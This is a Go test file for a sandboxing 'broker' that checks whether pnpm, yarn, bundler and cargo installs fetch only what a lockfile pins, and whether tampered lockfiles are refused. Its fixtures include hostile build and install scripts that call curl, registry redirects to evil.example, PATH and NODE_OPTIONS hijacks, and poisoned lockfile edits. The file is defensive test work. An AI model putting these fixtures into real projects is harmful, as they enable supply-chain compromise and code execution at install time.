package broker_test

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"crypto/sha1" // what yarn notes
	"crypto/sha256"
	"crypto/sha512"
	"encoding/base64"
	"encoding/hex"
	"errors"
	"fmt"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/tidemark/tidemark/internal/box/broker"
	"github.com/tidemark/tidemark/internal/test/boxtest"
)

// crates offers a crate with a build script that does what it can.
func (o *office) crates(mux *http.ServeMux) {
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	w := tar.NewWriter(z)
	for name, text := range map[string]string{
		"Cargo.toml": "[package]\nname = \"nice\"\nversion = \"1.0.0\"\nedition = \"2021\"\nbuild = \"build.rs\"\n", "src/lib.rs": "pub const X: u8 = 1;\n",
		"build.rs": "fn main() { let _ = std::process::Command::new(\"/usr/bin/curl\").args([\"-sk\", \"https://index.crates.io/evil/build\"]).status(); }\n",
	} {
		err := w.WriteHeader(&tar.Header{Name: "nice-1.0.0/" + name, Mode: 0o644, Size: int64(len(text))})
		if err == nil {
			_, err = w.Write([]byte(text))
		}
		if err != nil {
			o.t.Fatal(err)
		}
	}
	if err := errors.Join(w.Close(), z.Close()); err != nil {
		o.t.Fatal(err)
	}
	o.crate = b.Bytes()
	sum := sha256.Sum256(o.crate)
	mux.HandleFunc("/config.json", func(w http.ResponseWriter, _ *http.Request) {
		_, _ = w.Write([]byte(`{"dl": "https://static.crates.io/crates", "api": "https://crates.io"}`))
	})
	mux.HandleFunc("/ni/ce/nice", func(w http.ResponseWriter, _ *http.Request) {
		_, _ = fmt.Fprintf(w, `{"name":"nice","vers":"1.0.0","deps":[],"cksum":"%x","features":{},"yanked":false}`+"\n", sum)
	})
	mux.HandleFunc("/crates/nice/1.0.0/download", func(w http.ResponseWriter, _ *http.Request) { _, _ = w.Write(o.crate) })
}

// gems offers a gem whose building does what it can. Its building fails for it: nothing is compiled here.
func (o *office) gems(mux *http.ServeMux) {
	dir := filepath.Join(o.Dir, "gem")
	o.Put(filepath.Join(dir, "nice.gemspec"), "Gem::Specification.new { |s| s.name = 'nice'; s.version = '1.0.0'; s.summary = 'x'; s.authors = ['d']; s.files = ['lib/nice.rb', 'ext/extconf.rb']; s.extensions = ['ext/extconf.rb'] }\n")
	o.Put(filepath.Join(dir, "lib/nice.rb"), "X = 1\n")
	o.Put(filepath.Join(dir, "ext/extconf.rb"), "`/usr/bin/curl -sk --max-time 5 https://rubygems.org/evil/ext`\nFile.write('"+o.Work+"/ran-ext', '')\nFile.write('Makefile', \"all:\\n\\ninstall:\\n\\nclean:\\n\")\n")
	if _, err := exec.LookPath("gem"); err != nil {
		return
	}
	o.Must("cd " + dir + " && gem build -q nice.gemspec 2>&1")
	raw, err := os.ReadFile(filepath.Join(dir, "nice-1.0.0.gem"))
	if err != nil {
		o.t.Fatal(err)
	}
	mux.HandleFunc("/gems/nice-1.0.0.gem", func(w http.ResponseWriter, _ *http.Request) { _, _ = w.Write(raw) })
}

// locking is a lock of a manager's, and what somebody would write into it who has read what is fetched.
type locking struct {
	needs   []string
	list    string
	text    func(o *office) string
	files   map[string]string // of the workspace, harmless
	hostile map[string]string // put there once the session has its box
	line    string
	hosts   []string
	brought string            // a file that is there afterwards
	ran     string            // one that its scripts leave, in the session's box; empty: it has none
	asked   map[string]string // parts of the lock and what is put in their place: a person is asked
	refused map[string]string // the same: nobody fetches it
}

const curls = "#!/bin/sh\n/usr/bin/curl -sk --max-time 5 https://registry.npmjs.org/evil/sh\n"

var lockings = map[string]locking{
	"pnpm": {
		needs: []string{"pnpm", "node", "curl"}, list: "pnpm-lock.yaml", line: "pnpm install --frozen-lockfile", hosts: []string{"registry.npmjs.org"},
		text: func(o *office) string {
			sum := sha512.Sum512(o.tarball)
			return "lockfileVersion: '9.0'\n\nsettings:\n  autoInstallPeers: true\n  excludeLinksFromLockfile: false\n\nimporters:\n\n  .:\n    dependencies:\n      nice:\n        specifier: 1.0.0\n        version: 1.0.0\n\n" +
				"packages:\n\n  nice@1.0.0:\n    resolution: {integrity: sha512-" + base64.StdEncoding.EncodeToString(sum[:]) + "}\n\nsnapshots:\n\n  nice@1.0.0: {}\n"
		},
		files: map[string]string{"package.json": `{"name": "site", "version": "1.0.0", "dependencies": {"nice": "1.0.0"}, "pnpm": {"onlyBuiltDependencies": ["nice"]}}`},
		hostile: map[string]string{
			".pnpmfile.cjs": evilJS, "bin/pnpm": curls, ".npmrc": "registry=https://evil.example/\n", "pnpm-workspace.yaml": "packages: ['.']\nconfigDependencies: {evil: '1.0.0'}\n",
		},
		brought: "node_modules/nice/index.js", ran: "ran-postinstall",
		asked: map[string]string{"sha512-": "sha512-AA", "nice@1.0.0": "worse@1.0.0"},
		refused: map[string]string{
			"integrity: ": "tarball: https://evil.example/x.tgz, integrity: ", "resolution: {": "resolution: {type: directory, directory: ../x, ", "  nice@1.0.0:\n": "  nice@https://evil.example/x.tgz:\n",
			"packages:": "patchedDependencies:\n  nice: {path: x.patch, hash: y}\n\npackages:", "snapshots:": "---\nsnapshots:", "\n    resolution": "\n    \"resolution\": {repo: 'https://evil.example/x', commit: y}\n    resolution",
			"}\n\nsnapshots": "}\n      resolution: {repo: x}\n\nsnapshots", "'9.0'": "'5.4'", "settings:": "pnpmfileChecksum: x\n\nsettings:",
		},
	},
	"yarn": {
		needs: []string{"yarn", "node", "curl"}, list: "yarn.lock", line: "yarn install --frozen-lockfile", hosts: []string{"registry.yarnpkg.com", "registry.npmjs.org"},
		text: func(o *office) string {
			one, all := sha1.Sum(o.tarball), sha512.Sum512(o.tarball) // as yarn does
			return "# THIS IS AN AUTOGENERATED FILE. DO NOT EDIT THIS FILE DIRECTLY.\n# yarn lockfile v1\n\n\nnice@1.0.0:\n  version \"1.0.0\"\n  resolved \"https://registry.yarnpkg.com/nice/-/nice-1.0.0.tgz#" +
				hex.EncodeToString(one[:]) + "\"\n  integrity sha512-" + base64.StdEncoding.EncodeToString(all[:]) + "\n"
		},
		files: map[string]string{"package.json": `{"name": "site", "version": "1.0.0", "dependencies": {"nice": "1.0.0"}, "scripts": {"preinstall": "/usr/bin/curl -sk --max-time 5 https://registry.npmjs.org/evil/own || true"}}`},
		hostile: map[string]string{
			".yarnrc": "yarn-path \"./x.js\"\nregistry \"https://evil.example/\"\n", "x.js": evilJS, "bin/yarn": curls, ".npmrc": "registry=https://evil.example/\n",
		},
		brought: "node_modules/nice/index.js", ran: "ran-postinstall",
		asked: map[string]string{"sha512-": "sha512-AA", "1.0.0": "1.0.1"},
		refused: map[string]string{
			"registry.yarnpkg.com": "evil.example", "https://registry": "git+ssh://registry", "/-/nice": "/../x/-/nice", "# yarn lockfile v1": "__metadata:\n  version: 8\n", "  integrity": "  resolved \"https://evil.example/x.tgz\"\n  integrity",
			"\n  resolved": "\n  x", "  version \"1.0.0\"": "  version \"file:../x\"", "nice@1.0.0:\n": "nice@1.0.0:\n  version \"1.0.0\"\nworse@1.0.0:\n",
		},
	},
	"bundle": {
		needs: []string{"bundle", "gem", "curl"}, list: "Gemfile.lock", line: "bundle install --quiet", hosts: []string{"rubygems.org"},
		text: func(*office) string {
			return "GEM\n  remote: https://rubygems.org/\n  specs:\n    nice (1.0.0)\n\nPLATFORMS\n  ruby\n  x86_64-linux\n\nDEPENDENCIES\n  nice (= 1.0.0)\n\nBUNDLED WITH\n   2.3.15\n"
		},
		files: map[string]string{"Gemfile": "source 'https://rubygems.org'\ngem 'nice', '1.0.0'\n", ".bundle/config": "---\nBUNDLE_PATH: \"vendor/bundle\"\n"},
		hostile: map[string]string{
			"Gemfile": "`/usr/bin/curl -sk --max-time 5 https://rubygems.org/evil/gemfile`\nsource 'https://evil.example'\ngem 'nice'\n", "bin/curl": curls, "bin/bundle": curls, ".curlrc": "url = https://rubygems.org/evil/curlrc\n", ".gemrc": ":sources: [https://evil.example/]\n",
		},
		brought: "vendor/bundle", ran: "ran-ext",
		asked: map[string]string{"nice (1.0.0)": "nice (1.0.1)", "    nice (": "    worse ("},
		refused: map[string]string{
			"remote: https://rubygems.org/": "remote: https://evil.example/", "GEM\n": "GIT\n  remote: https://evil.example/x\n  revision: 1\n  specs:\n    x (1)\n\nGEM\n", "  specs:\n": "  remote: https://evil.example/\n  specs:\n", "(1.0.0)\n\n": "(../../x)\n\n",
			"    nice (1.0.0)": "    nice (1.0.0)\n    ../x (1.0.0)", "PLATFORMS": "PLUGIN SOURCE\n  remote: x\n  type: y\n\nPLATFORMS", "BUNDLED WITH": "<<<<<<< HEAD\nBUNDLED WITH",
		},
	},
	"cargo": {
		needs: []string{"cargo", "rustc", "curl"}, list: "Cargo.lock", line: "cargo fetch --locked", hosts: []string{"index.crates.io", "static.crates.io"},
		text: func(o *office) string {
			return fmt.Sprintf("# This file is automatically @generated by Cargo.\n# It is not intended for manual editing.\nversion = 3\n\n[[package]]\nname = \"nice\"\nversion = \"1.0.0\"\n"+
				"source = \"registry+https://github.com/rust-lang/crates.io-index\"\nchecksum = \"%x\"\n\n[[package]]\nname = \"site\"\nversion = \"1.0.0\"\ndependencies = [\n \"nice\",\n]\n", sha256.Sum256(o.crate))
		},
		files:   map[string]string{"Cargo.toml": "[package]\nname = \"site\"\nversion = \"1.0.0\"\nedition = \"2021\"\n[dependencies]\nnice = \"1.0.0\"\n", "src/lib.rs": ""},
		hostile: map[string]string{".cargo/config.toml": "[source.crates-io]\nreplace-with = \"x\"\n[source.x]\nregistry = \"sparse+https://evil.example/\"\n[build]\nrustc = \"bin/cargo\"\n", "bin/cargo": curls, "rust-toolchain.toml": "[toolchain]\nchannel = \"evil\"\n"},
		asked:   map[string]string{"nice": "worse", "nice\"\nversion = \"1.0.0": "nice\"\nversion = \"1.0.1"},
		refused: map[string]string{
			"registry+https://github.com/rust-lang/crates.io-index\"\n": "git+https://evil.example/x#1\"\n", "source = \"registry+https://": "source = \"sparse+https://", "checksum": "sum", "name = \"nice\"": "name = \"nice\"\nname = \"worse\"",
			"\n[[package]]\nname = \"site\"": "\n[patch.crates-io]\nnice = { git = \"https://evil.example/x\" }\n\n[[package]]\nname = \"site\"", "version = \"1.0.0\"\nsource": "version = \"../x\"\nsource", "version = 3": "version = 9",
		},
	},
}

// BOX-02: what a lock pins that is as it was is fetched unasked, from the registry, and what is put in from elsewhere nobody fetches. Nothing of
// the workspace or of a package runs while it can; scripts of packages run in the session's box.
func TestInstallOfWhatOtherLocksPin(t *testing.T) {
	for name, l := range lockings {
		t.Run(name, func(t *testing.T) {
			boxtest.Needs(t, l.needs...)
			o := newMarket(t)
			if v := o.Must(l.needs[0] + " --version"); name == "cargo" && regexp.MustCompile(`^cargo 1\.[1-6]?\d\.`).MatchString(v) {
				t.Skipf("%s knows no registry that is asked file by file", strings.TrimSpace(v))
			}
			text := l.text(o)
			list := filepath.Join(o.Work, l.list)
			o.Put(list, text)
			for file, content := range l.files {
				o.Put(filepath.Join(o.Work, file), content)
			}
			o.pins = broker.Pins{l.list: blob(text)}
			o.broker() // the session's box is made while the workspace is harmless
			l.attacked(o)
			d := must(o.prepare(l.line))
			if d.Ask || len(d.Question.Packages) != 1 || d.Question.Packages[0] != "nice@1.0.0" || d.Question.Host != l.hosts[0] {
				t.Fatalf("%+v", d)
			}
			if code, out, err := o.run(d); code != 0 || err != nil {
				t.Fatalf("%d %v\n%s", code, err, out)
			}
			o.quiet(l.hosts...)
			l.there(o)
			l.spoiled(o, list, text)
		})
	}
}

// attacked runs the line among files that would lead elsewhere, and takes them away again.
func (l *locking) attacked(o *office) {
	o.t.Helper()
	env := o.Env
	for file, content := range l.hostile {
		o.Put(filepath.Join(o.Work, file), content)
		if strings.HasPrefix(file, "bin/") {
			if err := os.Chmod(filepath.Join(o.Work, file), 0o755); err != nil {
				o.t.Fatal(err)
			}
		}
	}
	o.Env = append(o.Env, "NODE_OPTIONS=--require "+o.Work+"/x.js", "npm_config_registry=https://evil.example/", "CARGO_HOME="+o.Work, "PATH="+o.Work+"/bin:/usr/bin:/bin")
	_, _, _ = o.run(must(o.prepare(l.line))) // the session's own part may fail
	o.quiet(l.hosts...)
	o.Env = env
	for file := range l.hostile {
		if err := os.RemoveAll(filepath.Join(o.Work, file)); err != nil {
			o.t.Fatal(err)
		}
		if text, ok := l.files[file]; ok {
			o.Put(filepath.Join(o.Work, file), text)
		}
	}
}

// there looks for what was brought.
func (l *locking) there(o *office) {
	o.t.Helper()
	for _, name := range []string{l.brought, l.ran} {
		if _, err := os.Stat(filepath.Join(o.Work, name)); name != "" && err != nil {
			o.t.Errorf("it was not brought, or nothing is proven of its scripts: %v", err)
		}
	}
}

// spoiled prepares locks that are not as they were.
func (l *locking) spoiled(o *office, list, text string) {
	o.t.Helper()
	put := func(old, now string) {
		o.t.Helper()
		if !strings.Contains(text, old) {
			o.t.Errorf("there is no %q in it", old)
		}
		o.Put(list, strings.Replace(text, old, now, 1))
	}
	for old, now := range l.asked {
		o.Put(list, strings.ReplaceAll(text, old, now))
		if d, err := o.prepare(l.line); err != nil || !d.Ask {
			o.t.Errorf("%q: %v, and nobody is asked", now, err)
		}
	}
	for old, now := range l.refused {
		put(old, now)
		if _, err := o.prepare(l.line); !errors.Is(err, broker.ErrNotHere) {
			o.t.Errorf("%q: %v", now, err)
		}
	}
	o.Put(filepath.Join(o.Home, "kept"), text)
	if err := errors.Join(os.Remove(list), os.Symlink(filepath.Join(o.Home, "kept"), list)); err != nil {
		o.t.Fatal(err)
	}
	if _, err := o.prepare(l.line); !errors.Is(err, broker.ErrNotHere) {
		o.t.Errorf("through a link: %v", err)
	}
}
